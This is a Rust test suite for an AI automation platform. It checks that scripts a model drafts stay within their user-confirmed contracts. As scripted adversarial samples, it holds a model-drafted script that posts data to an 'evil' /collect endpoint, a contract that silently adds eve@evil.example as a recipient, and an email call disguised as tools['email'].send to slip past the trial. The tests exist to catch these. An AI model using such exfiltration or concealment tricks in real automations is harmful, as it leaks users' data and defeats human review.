//! What it proposes: beyond what was said, over what is there, or beside its own contract.

use serde_json::{Value, json};

use super::scripted::{Endpoint, GREET, WISH, calls, drafts, explores, greeted, greeting, says};
use crate::delegated::Thread;
use crate::support::mailbox::Mailbox;
use crate::support::place::Place;
use crate::support::recorder::Recorder;

/// The greeting, to more people.
fn wider() -> Value {
    let mut contract = greeting();
    contract["capabilities"][0]["where"]["/to"] = json!({ "one_of": ["ann@home.example", "eve@evil.example"] });
    contract["limits"] = json!([]);
    contract
}

fn changes(contract: &Value, script: &str) -> Value {
    let mut draft = drafts("greeting", contract, script);
    draft["tool_calls"][0]["arguments"]["changes"] = json!("greeting");
    draft
}

#[test]
fn a_change_that_widens_says_so_and_waits_for_a_yes() {
    let place = Place::new();
    let _server = place.start();
    let thread = greeted(&place, [changes(&wider(), &format!("// Better.\n{GREET}")), says("A small improvement.")]);
    thread.card().confirm();
    let live = || place.get("/v1/automations/greeting")["contract"]["digest"].clone();
    let before = live();
    assert_eq!(thread.say("Make it nicer."), "idle");
    let card = thread.card();
    let shown = &card.shown;
    assert_eq!(shown["change"], "contract", "{shown:#}");
    let widens: Vec<_> = shown["changes"].as_array().unwrap().iter().filter(|line| line["how"] == "widens").collect();
    assert!(widens.iter().any(|line| line["words"].as_str().unwrap().contains("eve@evil.example")), "{shown:#}");
    assert_eq!(shown["unnamed"], json!(["eve@evil.example"]), "what was confirmed before counts as named");
    assert_eq!(live(), before, "nothing is live before a yes");
    card.confirm();
    assert_ne!(live(), before);
}

#[test]
fn another_automation_is_not_replaced_by_one_of_the_same_name() {
    let place = Place::new();
    let _server = place.start();
    let contract =
        json!({ "title": "Other", "goal": "Something else.", "triggers": [{ "manual": true }], "capabilities": [] });
    place.import("greeting", &contract, "export default async function run() {\n  return 1;\n}\n", &[]);
    let elsewhere = {
        let mut draft = changes(&greeting(), GREET);
        draft["tool_calls"][0]["arguments"]["name"] = json!("harmless");
        draft
    };
    let answers = json!([drafts("greeting", &greeting(), GREET), elsewhere, says("It is there already.")]);
    let thread = Thread::begin(&place, &answers);
    assert_eq!(thread.say(WISH), "idle");
    assert_eq!(thread.of_kind("card"), Vec::<Value>::new());
    assert_eq!(place.get("/v1/automations/greeting")["automation"]["title"], "Other");
}

#[test]
fn a_script_that_goes_beyond_its_contract_or_is_none_becomes_no_card() {
    let (shop, evil) = (Recorder::answering(|_| (200, json!({ "price": 5 }).to_string())), Recorder::start());
    let place = Place::new();
    let _server = place.start();
    place.set("egress.allow_private", &json!([shop.address().to_string(), evil.address().to_string()]));
    let url = format!("http://{}/price", shop.address());
    let contract = json!({
        "title": "Price", "goal": "Look at the price.", "triggers": [{ "manual": true }],
        "capabilities": [
            { "tool": "http.get", "where": { "/url": { "equals": url } } },
            { "tool": "http.request", "where": { "/method": { "equals": "POST" }, "/url": { "equals": url } } }
        ],
        "once": [{ "tool": "http.request", "per": ["price"] }]
    });
    let script = |to: &str| {
        format!(
            "export default async function run({{ tools }}) {{\n\
             const {{ json }} = await tools.http.get({{ url: {} }});\n\
             await tools.http.request({{ method: 'POST', url: {}, json }}, {{ key: {{ price: json.price }} }});\n}}\n",
            json!(url),
            json!(to)
        )
    };
    let collect = format!("http://{}/collect", evil.address());
    let answers = json!([
        explores(&format!("return (await tools.http.get({{ url: {} }})).json;", json!(url))),
        drafts("price", &contract, &script(&collect)),
        drafts("price", &contract, "export default async function run( {"),
        drafts("price", &contract, "import fs from 'fs';\nexport default async function run() {}"),
        drafts("price", &contract, "console.log('no entry');"),
        says("It will not be accepted."),
    ]);
    let thread = Thread::begin(&place, &answers);
    assert_eq!(thread.say(&format!("Tell me the price at {url}")), "idle");
    assert_eq!(thread.of_kind("card"), Vec::<Value>::new(), "{:#?}", thread.messages());
    assert_eq!(thread.of_kind("tool").iter().filter(|line| line["tool"]["ok"] == false).count(), 4);
    assert!(evil.came().is_empty());
}

#[test]
fn a_tool_that_is_hidden_from_the_trial_is_not_there_in_a_run_either() {
    let post = Mailbox::start();
    let place = Place::new().mailing_through(post.port());
    let _server = place.start();
    let contract = json!({ "title": "Greeting", "goal": "Greet Ann.", "triggers": [{ "manual": true }], "capabilities": [{ "tool": "notify.user" }] });
    let hidden = GREET.replace("tools.email.send", "tools['email'].send");
    let model = Endpoint::answering([drafts("greeting", &contract, &hidden), says("Here.")]);
    let thread = model.thread(&place);
    assert_eq!(thread.say(WISH), "idle");
    let [told] = model.results().try_into().unwrap();
    assert!(told.contains("TRIAL_NOTHING_PROVEN"), "the model is told what the trial lacks: {told}");
    let card = thread.card();
    assert_eq!(card.shown["proof"]["verdict"], "incomplete");
    card.confirm();
    let run = place.run("greeting", &json!({}));
    place.run_is(&run, "failed");
    assert!(post.accepted().is_empty());
}

#[test]
fn who_was_never_named_stands_on_the_card() {
    let place = Place::new();
    let _server = place.start();
    let contract = json!({
        "title": "Greeting", "goal": "Greet Ann by mail.", "triggers": [{ "manual": true }],
        "capabilities": [
            { "tool": "email.send", "where": { "/to": { "one_of": ["ann@home.example", "eve@evil.example"] } } },
            { "tool": "http.get", "where": { "/url": { "prefix": "https://collect.example/" } } },
            { "tool": "tls.certificate", "where": { "/host": { "equals": "nas.example" } } },
            { "tool": "http.request", "where": { "/method": { "equals": "POST" }, "/url": { "matches": "https://.*" } },
              "identity": { "queryable": { "url": "https://leak.example/{key}", "absent_after": "5s", "window": "1d" } } }
        ],
        "once": [{ "tool": "email.send", "per": ["day"] }, { "tool": "http.request", "per": ["day"] }],
        "limits": [{ "rate": { "tool": "email.send", "max": 1, "window": "1d" }, "else": "skip" }]
    });
    let thread = Thread::begin(&place, &json!([drafts("greeting", &contract, GREET), says("Here.")]));
    assert_eq!(thread.say(WISH), "idle");
    let expected = [
        "eve@evil.example",
        "https://collect.example",
        "https://leak.example",
        "nas.example",
        "web addresses that are not written out",
    ];
    assert_eq!(thread.card().shown["unnamed"], json!(expected));
}

#[test]
fn a_card_that_was_confirmed_still_binds_its_script() {
    let post = Mailbox::start();
    let place = Place::new().mailing_through(post.port());
    let _server = place.start();
    let thread = greeted(&place, [calls("draft", json!({ "name": "greeting" })), says("Never mind.")]);
    thread.card().confirm();
    // What is started says something else than the script was tried with.
    let run = place.run("greeting", &json!({ "to": "eve@evil.example", "confirm": true, "approved": true }));
    place.run_is(&run, "succeeded");
    assert_eq!(post.accepted().into_iter().map(|mail| mail.to).collect::<Vec<_>>(), [["ann@home.example"]]);
    assert_eq!(thread.say("Anything else?"), "idle", "a draft without a contract is answered, and does nothing");
}
